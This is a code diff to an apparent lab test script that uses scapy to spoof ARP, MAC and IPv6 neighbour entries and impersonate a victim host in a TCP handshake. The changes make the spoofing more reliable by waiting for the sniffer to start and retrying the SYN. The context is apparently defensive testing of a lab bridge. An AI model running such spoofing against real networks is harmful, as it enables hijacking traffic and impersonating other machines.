@@ -7,10 +7,11 @@ SERVER_MAC PORT PATH`. Only ever aimed at the lab's own bridge addresses. Modes:
   mac  send frames with the victim's MAC as source, so the bridge learns it on our port
   nd   like arp for IPv6: unsolicited neighbour advertisements for the victim's IPv6 address
 Then it completes a TCP handshake with raw packets carrying the victim's IP and prints the
-server's answer, or NO-ANSWER. Bounded: about 7 seconds at most.
+server's answer, or NO-ANSWER. Bounded: about 15 seconds at most.
 """
 import random
 import sys
+import threading
 import time
 
 from scapy.all import (ARP, Ether, ICMPv6ND_NA, ICMPv6NDOptDstLLAddr, IP, IPv6, Raw, TCP, AsyncSniffer, conf,
@@ -44,9 +45,12 @@ def ours(p):
     return L3 in p and TCP in p and p[L3].src == server_ip and p[TCP].sport == port and p[TCP].dport == sport
 
 
-sniffer = AsyncSniffer(iface=iface, lfilter=ours, prn=seen.append, store=False)
+# On a loaded machine the sniffer's thread may start late; a SYN-ACK that comes before it listens is
+# lost, so wait until it really captures.
+listening = threading.Event()
+sniffer = AsyncSniffer(iface=iface, lfilter=ours, prn=seen.append, store=False, started_callback=listening.set)
 sniffer.start()
-time.sleep(0.3)
+listening.wait(5)
 for _ in range(3):
     poison()
     time.sleep(0.1)
@@ -68,8 +72,12 @@ def wait_for(pred, seconds):
     return None
 
 
-send(TCP(sport=sport, dport=port, flags="S", seq=seq))
-synack = wait_for(lambda p: p[TCP].flags & 0x12 == 0x12, 3)
+synack = None
+for _ in range(3):  # the same SYN again if nothing came back: a lost frame is not a defence
+    send(TCP(sport=sport, dport=port, flags="S", seq=seq))
+    synack = wait_for(lambda p: p[TCP].flags & 0x12 == 0x12, 3)
+    if synack is not None:
+        break
 if synack is None:
     sniffer.stop()
     print("NO-ANSWER")
